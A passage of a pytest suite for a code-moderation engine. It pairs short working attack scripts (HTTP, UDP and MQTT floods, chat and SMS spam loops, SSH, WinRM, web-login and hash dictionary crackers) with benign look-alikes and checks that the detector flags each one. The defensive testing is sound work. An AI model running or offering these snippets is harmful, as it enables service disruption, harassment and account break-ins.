    ("flood: an HTTP client's verb reached through getattr, in hundreds of tasks; the same client reading each page it fetches",
     "dos_attack",
     "import asyncio, aiohttp\nasync def lane(session, base, n):\n    fn = getattr(session, 'get')\n    for i in range(n):\n"
     "        async with fn(base + str(i)) as r:\n            await r.read()\n"
     "async def main():\n    async with aiohttp.ClientSession() as s:\n"
     "        await asyncio.gather(*(lane(s, 'https://shop.example.com/?q=', 10 ** 6) for _ in range(600)))\n"
     "asyncio.run(main())",
     "import asyncio, aiohttp\nasync def lane(session, base, n, out):\n    fn = getattr(session, 'get')\n    for i in range(n):\n"
     "        async with fn(base + str(i)) as r:\n            out.append(await r.json())\n"
     "async def main():\n    pages = []\n    async with aiohttp.ClientSession() as s:\n"
     "        await lane(s, 'https://api.example.com/items?page=', 20, pages)\n    print(len(pages))\n"
     "asyncio.run(main())"),
    ("flood: requests imported through a rot13 wrapper and its get kept on self by getattr; the same poller paced",
     "dos_attack",
     "import codecs, threading\nload = lambda s: __import__(codecs.decode(s, 'rot13'))\nh = load('erdhrfgf')\n"
     "class Runner:\n    def __init__(self, url):\n        self.url = url\n        self.fetch = getattr(h, 'g' + 'et')\n"
     "    def loop(self):\n        while True:\n            self.fetch(self.url, timeout=2)\n"
     "r = Runner('https://shop.example.com/')\nfor _ in range(800):\n    threading.Thread(target=r.loop).start()",
     "import codecs, threading, time\nload = lambda s: __import__(codecs.decode(s, 'rot13'))\nh = load('erdhrfgf')\n"
     "class Runner:\n    def __init__(self, url):\n        self.url = url\n        self.fetch = getattr(h, 'g' + 'et')\n"
     "    def loop(self):\n        while True:\n            self.fetch(self.url, timeout=2)\n            time.sleep(60)\n"
     "r = Runner('https://status.example.com/')\nthreading.Thread(target=r.loop).start()"),
    ("message storm: a browser's chat box typed into and sent 500 times; the same box given each search term once",
     "dos_attack",
     "from selenium import webdriver\nfrom selenium.webdriver.common.keys import Keys\nd = webdriver.Chrome()\n"
     "d.get('https://chat.example.com')\ninput('scan the code, then press enter')\n"
     "box = d.find_element('xpath', '//footer//div[@contenteditable]')\nfor _ in range(500):\n"
     "    box.send_keys('hello there')\n    box.send_keys(Keys.ENTER)",
     "from selenium import webdriver\nfrom selenium.webdriver.common.keys import Keys\nd = webdriver.Chrome()\n"
     "d.get('https://shop.example.com')\nbox = d.find_element('name', 'q')\n"
     "for term in ['laptop', 'mouse', 'monitor', 'keyboard', 'webcam']:\n    box.clear()\n    box.send_keys(term)\n"
     "    box.send_keys(Keys.ENTER)\n    print(term, len(d.find_elements('css selector', '.result')))"),
    ("message storm: a chat box typed into and its send button clicked as often as asked; a form sent per row",
     "dos_attack",
     "from selenium import webdriver\nfrom selenium.webdriver.common.by import By\nd = webdriver.Firefox()\n"
     "d.get('https://chat.example.com')\ntext = input('message: ')\ntimes = int(input('how many: '))\n"
     "for n in range(times):\n    field = d.find_element(By.CSS_SELECTOR, 'div[contenteditable]')\n"
     "    field.send_keys(text)\n    d.find_element(By.XPATH, \"//span[@data-icon='send']\").click()",
     "from selenium import webdriver\nfrom selenium.webdriver.common.by import By\nimport csv\nd = webdriver.Firefox()\n"
     "for row in csv.DictReader(open('signups.csv')):\n    d.get('https://forms.example.com/join')\n"
     "    d.find_element(By.NAME, 'email').send_keys(row['email'])\n"
     "    send_button = d.find_element(By.ID, 'submit')\n    send_button.click()"),
    ("message storm: a userbot's command answered N times in the chat it came from; the same command answered once "
     "per line of a text", "dos_attack",
     "from telethon import TelegramClient, events\nclient = TelegramClient('me', API_ID, API_HASH)\n"
     "@client.on(events.NewMessage(outgoing=True, pattern=r'\\.r(\\d+) (.*)'))\nasync def repeat(event):\n"
     "    n, text = event.pattern_match.groups()\n    for _ in range(int(n)):\n        await event.respond(text)\n"
     "client.start()\nclient.run_until_disconnected()",
     "from telethon import TelegramClient, events\nclient = TelegramClient('me', API_ID, API_HASH)\n"
     "@client.on(events.NewMessage(outgoing=True, pattern=r'\\.lines (.*)'))\nasync def lines(event):\n"
     "    for line in event.pattern_match.group(1).split(';'):\n        await event.respond(line.strip())\n"
     "client.start()\nclient.run_until_disconnected()"),
    ("message storm: a channel spammed for every item of a list; a remark sent only for the items that match",
     "dos_attack",
     "import discord\nclient = discord.Client(intents=discord.Intents.all())\n@client.event\nasync def on_message(message):\n"
     "    for member in message.guild.members:\n        await message.channel.send('@everyone join now')\n"
     "client.run(TOKEN)",
     "import discord\nclient = discord.Client(intents=discord.Intents.all())\n@client.event\nasync def on_message(message):\n"
     "    for box in detect_faces(message.attachments[0].url):\n        if box.score < 0.5:\n"
     "            await message.channel.send('one face is blurry')\nclient.run(TOKEN)"),
    ("message storm: a channel got by id and spammed; the same channel answering each message it waits for",
     "dos_attack",
     "import discord\nclient = discord.Client(intents=discord.Intents.all())\n@client.event\nasync def on_ready():\n"
     "    ch = client.get_channel(CHANNEL_ID)\n    while True:\n        await ch.send('@everyone wake up')\n"
     "client.run(TOKEN)",
     "import discord\nclient = discord.Client(intents=discord.Intents.all())\n@client.event\nasync def on_ready():\n"
     "    ch = await client.fetch_channel(CHANNEL_ID)\n    while True:\n"
     "        msg = await client.wait_for('message')\n        await ch.send('pong')\nclient.run(TOKEN)"),
    ("server: an address tuple kept in a name (the http.server docs' server_address); the same on localhost",
     "web_file_hosting",
     "from http.server import HTTPServer, SimpleHTTPRequestHandler\nimport os\nos.chdir('/content/drive/MyDrive')\n"
     "server_address = ('', 8000)\nHTTPServer(server_address, SimpleHTTPRequestHandler).serve_forever()",
     "from http.server import HTTPServer, SimpleHTTPRequestHandler\nserver_address = ('localhost', 8000)\n"
     "HTTPServer(server_address, SimpleHTTPRequestHandler).serve_forever()"),
    ("server: an FTP share on a machine address; a test FTP server on loopback", "web_file_hosting",
     "from pyftpdlib.servers import FTPServer\nfrom pyftpdlib.handlers import FTPHandler\n"
     "from pyftpdlib.authorizers import DummyAuthorizer\nauth = DummyAuthorizer()\nauth.add_anonymous('.', perm='elr')\n"
     "FTPHandler.authorizer = auth\nFTPServer(('10.1.2.3', 2121), FTPHandler).serve_forever()",
     "from pyftpdlib.servers import FTPServer\nfrom pyftpdlib.handlers import FTPHandler\n"
     "from pyftpdlib.authorizers import DummyAuthorizer\nauth = DummyAuthorizer()\nauth.add_user('t', 't', '/tmp/f')\n"
     "FTPHandler.authorizer = auth\nFTPServer(('127.0.0.1', 2121), FTPHandler).serve_forever()"),
    ("password trial: a hash helper under another name (pwntools) against a word list; the helper on one file",
     "password_cracking",
     "from pwn import *\nimport sys\ngoal = sys.argv[1]\nwith open('common.txt', encoding='latin-1') as src:\n"
     "    for line in src:\n        if sha256sumhex(line.strip().encode()) == goal:\n            print(line); break",
     "from pwn import *\nimport sys\ndata = open(sys.argv[1], 'rb').read()\n"
     "if sha256sumhex(data) == open('SHA256SUMS').read().split()[0]:\n    print('checksum ok')"),
    ("password trial: a hash object fed each line of rockyou.txt; the same hash over each line of a data file",
     "password_cracking",
     "import hashlib\ntargets = [l.strip() for l in open('hashes.txt')]\nfor line in open('rockyou.txt', 'rb'):\n"
     "    m = hashlib.md5()\n    m.update(line.rstrip())\n    if m.hexdigest() in targets:\n        print(line)",
     "import hashlib\nseen = set()\nfor line in open('events.csv', 'rb'):\n    m = hashlib.md5()\n"
     "    m.update(line)\n    if m.hexdigest() in seen:\n        print('duplicate row')\n    seen.add(m.hexdigest())"),
    ("password trial: any client's login with a candidate (ssh(host, user, password)); an account made per row",
     "password_cracking",
     "from pwn import ssh\nfor pw in open('ssh-passwords.txt').read().split():\n    try:\n"
     "        s = ssh(host='10.0.0.5', user='root', password=pw, timeout=1)\n        print('found', pw); break\n"
     "    except Exception:\n        pass",
     "import csv\nfor row in csv.reader(open('new_students.csv')):\n"
     "    create_user(username=row[0], password=row[1], host='lab.example.edu')"),
    ("flood: a worker's host handed down by its callers, a public address; the same given only localhost",
     "dos_attack",
     "import paho.mqtt.client as mqtt\nfrom threading import Thread\nTARGET = '198.51.100.20'\n"
     "def burst(host, port, workers):\n    def worker(n):\n        c = mqtt.Client(client_id=f'w{n}')\n"
     "        c.connect(host, port, 60)\n        for i in range(1000):\n            c.publish('t', 'x')\n"
     "    for n in range(workers):\n        Thread(target=worker, args=(n,)).start()\nburst(TARGET, 1883, 500)",
     "import paho.mqtt.client as mqtt\nfrom threading import Thread\nBROKER = 'localhost'\n"
     "def burst(host, port, workers):\n    def worker(n):\n        c = mqtt.Client(client_id=f'w{n}')\n"
     "        c.connect(host, port, 60)\n        for i in range(1000):\n            c.publish('t', 'x')\n"
     "    for n in range(workers):\n        Thread(target=worker, args=(n,)).start()\nburst(BROKER, 1883, 500)"),
    ("password trial: a digest given as text against each candidate; a lesson that hashes its own password first",
     "password_cracking",
     "import hashlib, itertools\nALPHABET = 'abcd'\ndef crack(kind, wanted):\n"
     "    for combo in itertools.product(ALPHABET, repeat=4):\n        guess = ''.join(combo).encode()\n"
     "        if hashlib.new(kind, guess).hexdigest() == wanted:\n            return guess\n"
     "print(crack('md5', 'e2fc714c4727ee9395f324cd2e7f331f'))",
     "import hashlib, itertools\nALPHABET = 'abcd'\npassword = b'cbda'\n"
     "md5_digest = hashlib.md5(password).hexdigest()\ndef crack(kind, wanted):\n"
     "    for combo in itertools.product(ALPHABET, repeat=4):\n        guess = ''.join(combo).encode()\n"
     "        if hashlib.new(kind, guess).hexdigest() == wanted:\n            return guess\n"
     "%timeit -n1 -r1 crack('md5', md5_digest)\nprint(crack('md5', md5_digest))"),
    ("password trial: a transport's auth_password per word of a list; one login with the user's own secret",
     "password_cracking",
     "import paramiko, socket\nfor word in open('top1000.txt'):\n    t = paramiko.Transport(socket.create_connection(('10.0.0.7', 22)))\n"
     "    t.start_client()\n    try:\n        t.auth_password('root', word.strip())\n        print('ok', word); break\n"
     "    except paramiko.AuthenticationException:\n        t.close()",
     "import os, paramiko, socket\nfor host in open('lab_hosts.txt'):\n"
     "    t = paramiko.Transport(socket.create_connection((host.strip(), 22)))\n    t.start_client()\n"
     "    t.auth_password('student', os.environ['LAB_PASSWORD'])\n    print(host, t.is_authenticated())\n    t.close()"),
    ("password trial: a client given auth=(user, candidate) per word; the same client, one secret, host per line",
     "password_cracking",
     "import winrm\nfor guess in open('common.txt'):\n    try:\n"
     "        winrm.Session('10.0.0.9', auth=('Administrator', guess.strip())).run_cmd('whoami')\n"
     "        print(guess); break\n    except Exception:\n        pass",
     "import os, winrm\nfor host in open('lab_hosts.txt'):\n"
     "    out = winrm.Session(host.strip(), auth=('ops', os.environ['WINRM_PASSWORD'])).run_cmd('hostname')\n"
     "    print(out.std_out)"),
    ("password trial: each word's digest looked up in a table of leaked hashes; a table of the lines already seen",
     "password_cracking",
     "import hashlib\nleaked = {}\nfor row in open('dump.txt'):\n    user, _, h = row.strip().partition(':')\n"
     "    leaked[h] = user\nfor w in open('words.txt'):\n    owner = leaked.get(hashlib.md5(w.strip().encode()).hexdigest())\n"
     "    if owner:\n        print(owner, w)",
     "import hashlib\nseen = {}\nfor n, line in enumerate(open('corpus.txt')):\n    h = hashlib.md5(line.encode()).hexdigest()\n"
     "    if seen.get(h) is not None:\n        print('duplicate of line', seen[h], ':', n)\n    seen[h] = n"),
    ("password trial: the hash function reached by operator.attrgetter and a lambda, the digest looked up in a table",
     "password_cracking",
     "import hashlib, operator\nmk = operator.attrgetter('new')(hashlib)\nfp = lambda w: mk('md5', w).hexdigest()\n"
     "want = dict(line.strip().split(':')[::-1] for line in open('hashes.txt'))\n"
     "for w in open('rockyou.txt', 'rb'):\n    if want.get(fp(w.strip())):\n        print(w)",
     "import hashlib, operator\nmk = operator.attrgetter('new')(hashlib)\nfp = lambda b: mk('md5', b).hexdigest()\n"
     "sums = dict(line.split()[::-1] for line in open('MD5SUMS'))\nfor name in ['train.csv', 'test.csv']:\n"
     "    print(name, sums.get(name) == fp(open(name, 'rb').read()))"),
    ("password trial: SHA-1 of each word against a target; a breach check of one's own passwords (k-anonymity)",
     "password_cracking",
     "import hashlib, sys\ntarget = sys.argv[1].upper()\nfor word in open('words.txt'):\n"
     "    if hashlib.sha1(word.strip().encode()).hexdigest().upper() == target:\n        print(word); break",
     "import hashlib, sys, requests\npasswords = sys.argv[1:]\nfor password in passwords:\n"
     "    digest = hashlib.sha1(password.encode()).hexdigest().upper()\n"
     "    lines = requests.get('https://api.pwnedpasswords.com/range/' + digest[:5]).text.splitlines()\n"
     "    for line in lines:\n        if digest[5:] in line:\n            print('leaked:', password)"),
    ("password trial: an Office document's key tried for every string of a character set; one key from the user",
     "password_cracking",
     "import msoffcrypto, string\nfrom itertools import product\ndoc = msoffcrypto.OfficeFile(open('book.xlsx', 'rb'))\n"
     "for n in range(1, 7):\n    for combo in product(string.printable, repeat=n):\n        try:\n"
     "            doc.load_key(''.join(combo))\n            print('key', combo); break\n        except Exception:\n"
     "            pass",
     "import msoffcrypto, getpass\ndoc = msoffcrypto.OfficeFile(open('book.xlsx', 'rb'))\n"
     "doc.load_key(getpass.getpass('workbook password: '))\ndoc.decrypt(open('plain.xlsx', 'wb'))"),
    ("password trial: a login form posted per word; accounts created per row with an initial password",
     "password_cracking",
     "import requests\nfor pw in open('rockyou.txt', errors='ignore'):\n"
     "    r = requests.post('http://10.10.10.5/wp-login.php', data={'log': 'admin', 'pwd': pw.strip()})\n"
     "    if 'dashboard' in r.url:\n        print('found', pw); break",
     "import requests\nfor line in open('staff.csv'):\n    user, pw = line.strip().split(',')\n"
     "    requests.post('https://lms.example.edu/api/users', json={'name': user, 'initial_password': pw}, headers=H)"),
    ("message storm: a DM channel opened and spammed; an agent client streaming the answers to one request",
     "dos_attack",
     "import discord\nbot = discord.Client(intents=discord.Intents.default())\n@bot.event\nasync def on_ready():\n"
     "    box = await (await bot.fetch_user(VICTIM)).create_dm()\n    while True:\n        await box.send('hi')\n"
     "bot.run(TOKEN)",
     "import asyncio\nasync def ask(text):\n    request = SendMessageRequest(message=Message(text=text))\n"
     "    async for reply in client.send_message(request):\n        print(reply)\n"
     "asyncio.run(ask('top stations?'))"),
    ("password trial: a whole digest against a target; a digest's prefix against zeros is a nonce search",
     "password_cracking",
     "import hashlib\ndef crack(target):\n    for pin in range(1000000):\n"
     "        if hashlib.sha256(str(pin).encode()).hexdigest() == target:\n            return pin\ncrack(input('hash: '))",
     "import hashlib\ndef mine(block, zeros):\n    for nonce in range(10 ** 7):\n"
     "        h = hashlib.sha256(f'{block}{nonce}'.encode()).hexdigest()\n        if h[:zeros] == '0' * zeros:\n"
     "            return nonce\nfor z in range(1, 5):\n    mine('genesis', z)"),
    ("messages: one number posted to each of a list of endpoints, round after round", "dos_attack",
     "import requests, itertools\nendpoints = load_endpoints()\nvictim_phone = input('number: ')\nfor r in itertools.count():\n"
     "    for e in endpoints:\n        requests.post(e, json={'phone': victim_phone})",
     "import requests\nfor hook in hooks:\n    requests.post(hook, json={'text': 'deploy done'})\n"
     "for user in users:\n    requests.post(API, json={'phone': user.phone, 'name': user.name})"),
    ("messages: the same text pasted and sent with Enter by keyboard automation", "dos_attack",
     "import pyautogui, pyperclip, time\ntime.sleep(8)\nnote = 'are you there'\nfor _ in range(700):\n"
     "    pyperclip.copy(note)\n    pyautogui.hotkey('ctrl', 'v')\n    pyautogui.press('enter')",
     "import pyautogui, pyperclip\nfor line in open('answers.txt', encoding='utf-8'):\n    pyperclip.copy(line.strip())\n"
     "    pyautogui.hotkey('ctrl', 'v')\n    pyautogui.press('enter')"),
    ("messages: the same text typed and sent with Enter in a counted loop; each row of a file typed", "dos_attack",
     "import pyautogui as gui\nmsg = input('message: ')\nfor i in range(int(input('times: '))):\n    gui.typewrite(msg)\n"
     "    gui.press('enter')",
     "import pyautogui, csv\nfor row in csv.DictReader(open('marks.csv')):\n    pyautogui.write(row['student'])\n"
     "    pyautogui.press('tab')\n    pyautogui.write(row['mark'])\n    pyautogui.press('enter')"),
    ("messages: a pynput controller typing one line forever", "dos_attack",
     "from pynput.keyboard import Controller, Key\nkb = Controller()\nline = input('line: ')\nwhile True:\n"
     "    kb.type(line)\n    kb.press(Key.enter)\n    kb.release(Key.enter)",
     "from pynput.keyboard import Controller, Key\nimport time\nkb = Controller()\nwhile True:\n"
     "    kb.type('stand-up in five minutes')\n    kb.press(Key.enter)\n    time.sleep(3600)"),
    ("messages: a file written line by line is no typing", "dos_attack",
     "import keyboard\nfor _ in range(300):\n    keyboard.write('again\\n')",
     "import keyboard\nwith open('ticks.log', 'w') as f:\n    for i in range(30000):\n        f.write('tick\\n')"),
    ("messages: a messaging call named for messages, repeated at one number", "dos_attack",
     "import pywhatkit as kit, time\ndef spam(phone_no, text, count):\n    for i in range(count):\n"
     "        kit.sendwhatmsg_instantly(phone_no=phone_no, message=text)\n        time.sleep(2)\n"
     "spam('+15550100', 'hey', 40)",
     "for student in roster:\n    bot.send_message(student.phone_number, f'Your mark: {student.mark}')"),
    ("messages: Twilio texts to one recipient from a long loop; an hourly alert is paced", "dos_attack",
     "from twilio.rest import Client\nclient = Client(SID, TOKEN)\nvictim = input('to: ')\nfor i in range(300):\n"
     "    client.messages.create(to=victim, from_=OURS, body='hi')",
     "import time\nfrom alerts import send_sms\noncall_phone = '+15550100'\nwhile True:\n    if disk_full():\n"
     "        send_sms(oncall_phone, 'disk almost full')\n    time.sleep(3600)"),
    ("password trial: a login tried with each password of a list; a sign-up check with the right and a wrong one",
     "password_cracking",
     "import bcrypt\nstored = open('hash.txt', 'rb').read().strip()\nfor attempt in open('leaked.txt', 'rb'):\n"
     "    if bcrypt.checkpw(attempt.strip(), stored):\n        print('found', attempt)",
     "import bcrypt, getpass\nsecret = getpass.getpass('new password: ').encode()\nstored = bcrypt.hashpw(secret, bcrypt.gensalt())\n"
     "for attempt in [secret, b'not-it']:\n    print(bcrypt.checkpw(attempt, stored))"),
    ("password trial: logins from a list of passwords; one command on each server of a table with its own password",
     "password_cracking",
     "import paramiko\ndef run(ip, password):\n    c = paramiko.SSHClient()\n    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
     "    c.connect(ip, username='root', password=password)\nfor pw in open('passwords.txt'):\n    run('203.0.113.7', pw.strip())",
     "import paramiko\ndef run(ip, password):\n    c = paramiko.SSHClient()\n    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
     "    c.connect(ip, username='root', password=password)\n    c.exec_command('uptime')\n"
     "servers = {'10.0.0.5': {'password': 'a1'}, '10.0.0.6': {'password': 'b2'}}\n"
     "for ip, info in servers.items():\n    run(ip, info.get('password'))"),
    ("password trial: a wallet's keystore opened with each candidate by a class found at run time",
     "password_cracking",
     "import json, importlib\nK = getattr(importlib.import_module(MODULE), NAME)\nkeystore = json.load(open('wallet.json'))\n"
     "for pw in open('candidates.txt'):\n    try:\n        print(K.decrypt(keystore, pw.strip()).hex())\n        break\n"
     "    except ValueError:\n        pass",
     "import json, importlib\nK = getattr(importlib.import_module(MODULE), NAME)\nkeystore = json.load(open('wallet.json'))\n"
     "for pw in open('candidates.txt'):\n    print(K.encrypt(keystore, pw.strip()))"),
    ("password trial: a combo list's entries handed to a login helper; each new account's random password checked"
     " against its own stored hash", "password_cracking",
     "import paramiko\ndef attempt(u, p):\n    c = paramiko.SSHClient()\n    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
     "    c.connect('203.0.113.7', username=u, password=p)\ncombos = [line.split(':') for line in open('combo.txt')]\n"
     "for row in combos:\n    attempt(row[0], row[1])",
     "import bcrypt, secrets, string\ndef verify(pw, hashed):\n    return bcrypt.checkpw(pw.encode(), hashed)\n"
     "users = {u: ''.join(secrets.choice(string.ascii_letters + string.digits) for _ in range(16)) for u in ['ann1', 'ann2', 'ann3']}\n"
     "store = {u: bcrypt.hashpw(p.encode(), bcrypt.gensalt()) for u, p in users.items()}\n"
     "assert all(verify(users[u], store[u]) for u in users)"),
    ("flood: endless workers opening one URL through a urllib opener; an opener reading a list of pages",
     "dos_attack",
     "import threading, urllib.request\nopener = urllib.request.build_opener()\ndef work():\n    while True:\n"
     "        opener.open('http://203.0.113.7/index.php', timeout=4).read(1)\nfor _ in range(200):\n"
     "    threading.Thread(target=work, daemon=True).start()",
     "import urllib.request\nopener = urllib.request.build_opener()\nfor url in pages:\n"
     "    html = opener.open(url, timeout=10).read()\n    save(url, html)"),
]


@pytest.mark.parametrize("name,category,bad,good", PAIRS, ids=[p[0] for p in PAIRS])
def test_shape_is_found_and_its_lookalike_is_not(engine, name, category, bad, good):
    verdict = engine.check_code(bad)
    assert flagged(verdict, category), (name, verdict.to_dict())
    assert any(f.pattern == "behaviour" for f in verdict.findings), verdict.to_dict()
    quiet = engine.check_code(good)
    assert quiet.action == "allow", (name, quiet.to_dict())



SCAN_PAIR = ("import socket, threading\ndef hammer(host, port):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    while True:\n        s.sendto(b'x' * 1024, (host, port))\nfor _ in range(400):\n    threading.Thread(target=hammer, args=('203.0.113.4', 80)).start()",
             "import queue, socket, threading, time\nq = queue.Queue()\nfor p in range(1, 1025):\n    q.put(p)\ndef probe(host, port):\n    s = socket.socket()\n    s.setblocking(False)\n    try:\n        s.connect((host, port))\n    except BlockingIOError:\n        pass\n    t = time.time()\n    while time.time() - t < 0.05:\n        try:\n            s.send(b'')\n            s.close()\n            return port\n        except OSError:\n            time.sleep(0.001)\n    s.close()\ndef worker(host):\n    while not q.empty():\n        port = q.get()\n        if probe(host, port):\n            print('open', port)\nfor _ in range(50):\n    threading.Thread(target=worker, args=('203.0.113.4',)).start()")


def test_workers_taking_ports_from_a_queue_are_a_scanner_not_a_flood(engine):
    """Threads that send to one host's port forever are a flood; threads that take each port from a queue and try
    it once are a port scanner (the flood shape only: the word model may still read a scanner's words)."""
    flood, scanner = (engine.check_code(cell) for cell in SCAN_PAIR)

    def shapes(verdict):
        return {f.rule for f in verdict.findings if f.pattern == "behaviour" and not f.rule.endswith("word-model")}

    assert "dos_attack.flood-shape" in shapes(flood), flood.to_dict()
    assert not {r for r in shapes(scanner) if r.startswith("dos_attack.")}, scanner.to_dict()

def test_threads_that_log_in_with_each_guess_are_a_password_trial_not_a_flood(engine):
    """Many workers connecting without pause look like a flood; when each connection logs in with the next
    password the category is password cracking. A flood whose login is a constant stays a flood."""
    cracker = ("import socket, threading\nguesses = open('rockyou.txt').read().split()\n"
               "def worker(chunk):\n    for guess in chunk:\n        s = socket.create_connection(('203.0.113.9', 21))\n"
               "        s.sendall(b'USER admin\\r\\n')\n        s.sendall(('PASS ' + guess + '\\r\\n').encode())\n"
               "        s.login('admin', guess)\n"
               "for i in range(64):\n    threading.Thread(target=worker, args=(guesses[i::64],)).start()")
    verdict = engine.check_code(cracker)
    assert verdict.category == "password_cracking", verdict.to_dict()
    assert not any(f.rule == "dos_attack.flood-shape" for f in verdict.findings), verdict.to_dict()
    flood = ("import socket, threading\ndef hammer():\n    while True:\n        s = socket.create_connection(('203.0.113.9', 21))\n"
             "        s.sendall(b'USER anonymous\\r\\nPASS guest\\r\\n')\n        s.close()\n"
             "for i in range(500):\n    threading.Thread(target=hammer).start()")
    assert engine.check_code(flood).category == "dos_attack"


def test_behaviour_facts_name_the_shape_and_the_line(engine):
    cell = PAIRS[0][2]
    verdict = engine.check_code(cell)
    finding = next(f for f in verdict.findings if f.pattern == "behaviour")
    assert finding.rule == "password_cracking.password-trial-loop" and finding.line == 4
    assert "extractall" in finding.evidence and "password candidate" in finding.evidence


def test_find_never_raises_on_odd_trees():
    for source in ("", "x = 1", "while True:\n    pass", "def f():\n    f()\nf()", "class A(A): pass",
                   "for x in x:\n    x.send(x)", "lambda: (yield)"):
        assert isinstance(behaviour.find(ast.parse(source)), list)


def test_a_launcher_run_from_an_earlier_clone_is_judged_by_the_tool(engine):
    memory = Memory()
    engine.check_code("!git clone https://github.com/example/roop-fork roop\n%cd roop", memory=memory)
    swapped = engine.check_code("!python run.py -s me.jpg -t clip.mp4 -o out.mp4 --frame-processor face_swapper",
                                memory=memory)
    assert flagged(swapped, "deepfake"), swapped.to_dict()
    trainer = Memory()
    engine.check_code("%cd /content/yolov5", memory=trainer)
    assert engine.check_code("!python train.py --img 640 --epochs 3 --data coco128.yaml", memory=trainer).action == "allow"


def test_python2_scripts_are_read(engine):
    crack = ("import crypt\nfor w in open('words.txt'):\n    if crypt.crypt(w.strip(), 'ab') == target:\n"
             "        print 'found', w\n        break\n")
    verdict = engine.check_code(crack)
    assert flagged(verdict, "password_cracking") and "read as Python 2" in " ".join(verdict.notes)
    lookalike = "import crypt\nprint 'salted:', crypt.crypt(password, 'ab')\n"
    assert engine.check_code(lookalike).action == "allow"


def test_a_broken_block_does_not_hide_the_rest(engine):
    cell = ("agents = [\n    'Mozilla/5.0',\n\n"  # never closed
            "import socket\ndef go():\n    while True:\n        socket.socket().connect(('198.51.100.4', 80))\n"
            "import threading\nfor _ in range(900):\n    threading.Thread(target=go).start()\n")
    verdict = engine.check_code(cell)
    assert flagged(verdict, "dos_attack"), verdict.to_dict()
    assert any("other top-level blocks were analysed" in n for n in verdict.notes)


@pytest.mark.parametrize("item, flagged_", [("addr", True), ("TEST_URL", False)])
def test_a_try_whose_handler_was_commented_out_is_read(engine, item, flagged_):
    """`try:` with its `except` commented out does not parse; the method is read with the try as a plain block,
    line numbers kept. The look-alike builds the same mapping from a constant: one configured proxy."""
    cell = ("import requests\nclass Pool:\n    def check(self, batch):\n        alive = []\n"
            "        for addr in batch:\n            try:\n"
            f"                cfg = {{'http': 'http://' + {item}}}\n"
            "                requests.get('http://example.org/ip', proxies=cfg, timeout=5)\n"
            "                alive.append(addr)\n            # except Exception:\n            #     pass\n"
            "        return alive\n")
    verdict = engine.check_code(cell)
    assert flagged(verdict, "proxy_tunnel") is flagged_, verdict.to_dict()
    if flagged_:
        finding = next(f for f in verdict.findings if f.rule == "proxy_tunnel.proxy-trial-loop")
        assert finding.line == 7 and "cfg = {'http'" in finding.evidence


ONE_PROXY_SCRAPER = """\
import requests
from bs4 import BeautifulSoup

# the lab reaches the web only through the department's HTTP proxy
PROXY_HOST = "127.0.0.1"
PROXY_PORT = 7890
proxies = {
    "http": "http://%s:%d" % (PROXY_HOST, PROXY_PORT),
    "https": "http://%s:%d" % (PROXY_HOST, PROXY_PORT),
}
headers = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) course-scraper/1.0"}

def fetch(url):
    resp = requests.get(url, headers=headers, proxies=proxies, timeout=10)
    resp.raise_for_status()
    return resp.text

def titles(html):
    soup = BeautifulSoup(html, "html.parser")
    return [h.get_text(strip=True) for h in soup.select("h2.title")]

if __name__ == "__main__":
    print("my ip through the proxy:", fetch("http://httpbin.org/ip"))
    for t in titles(fetch("https://example.org/news")):
        print(t)
"""


def test_requests_through_one_configured_proxy_are_a_client_and_a_rotation_is_not(engine):
    """A whole scraping program whose requests go through one fixed proxy is a client's setting: the shape
    proxy-client/one keeps the word model (which reads 'proxies', 'proxy', 'httpbin' as a proxy's words) quiet.
    The same program taking each request's proxy from a harvested list rotates through them and is flagged."""
    one = engine.check_code(ONE_PROXY_SCRAPER, "python")
    assert one.action == "allow", one.to_dict()
    rotating = ONE_PROXY_SCRAPER.replace(
        "def fetch(url):\n    resp = requests.get(url, headers=headers, proxies=proxies, timeout=10)",
        "def fetch(url):\n    for line in open('free_proxies.txt'):\n"
        "        resp = requests.get(url, headers=headers, proxies={'http': line.strip(), 'https': line.strip()}, timeout=10)")
    assert rotating != ONE_PROXY_SCRAPER
    assert flagged(engine.check_code(rotating, "python"), "proxy_tunnel")


ROTATOR = """\
import itertools, random, requests

def make_settings(source):
    ring = {pick}
    def settings():
        addr = {draw}
        return {{"http": "http://" + addr, "https": "http://" + addr}}
    return settings

current = make_settings(requests.get(LIST_URL, timeout=10).text.split())
for page in range(300):
    r = requests.get(SEARCH % page, proxies=current(), timeout=8)
    print(page, r.status_code)
"""


@pytest.mark.parametrize("pick, draw, rotates", [
    ("source", "random.choice(ring)", True),
    ("itertools.cycle(source)", "next(ring)", True),
    ("source", "ring[0]", False),  # the look-alike: always the list's first address, one configured proxy
    ("iter(source)", "next(ring)", False),  # the first of a list, once: no ring to come round again
])
def test_a_proxy_drawn_from_a_pool_by_a_factorys_function_rotates(engine, pick, draw, rotates):
    """Each request's proxies come from a function that a factory made, which draws an address from a pool (at
    random or round a ring): proxy-trial/draw, whatever the names. Taking one fixed address is a client's setting."""
    verdict = engine.check_code(ROTATOR.format(pick=pick, draw=draw), "python")
    assert flagged(verdict, "proxy_tunnel") is rotates, verdict.to_dict()
    assert any(f.rule == "proxy_tunnel.proxy-trial-loop" for f in verdict.findings) is rotates


LIST_KEEPER = """\
# Collect today's public proxy lists into one deduplicated file for the network-measurement lab
import asyncio
import re

import aiohttp

SOURCES = {
    "http": ["https://lists.example.org/proxy-list/http.txt", "https://api.example.net/proxies?type=http&fmt=txt"],
    "socks5": ["https://lists.example.org/proxy-list/socks5.txt"],
}
ADDRESS = re.compile(r"\\b(\\d{1,3}(?:\\.\\d{1,3}){3}):(\\d{2,5})\\b")


async def download(session, url):
    try:
        async with session.get(url, timeout=aiohttp.ClientTimeout(total=20)) as resp:
            return await resp.text()
    except aiohttp.ClientError as exc:
        print("skipped", url, exc)
        return ""


async def collect():
    found = {kind: set() for kind in SOURCES}
    async with aiohttp.ClientSession() as session:
        for kind, urls in SOURCES.items():
            pages = await asyncio.gather(*(download(session, u) for u in urls))
            for page in pages:
                found[kind].update(f"{ip}:{port}" for ip, port in ADDRESS.findall(page))
    for kind, proxies in found.items():
        with open(f"{kind}_proxies.txt", "w") as out:
            out.write("\\n".join(sorted(proxies)))
        print(kind, len(proxies), "proxies saved")


asyncio.run(collect())
"""


def test_a_program_that_only_keeps_proxy_lists_is_not_a_proxy_and_one_that_tries_them_is(engine):
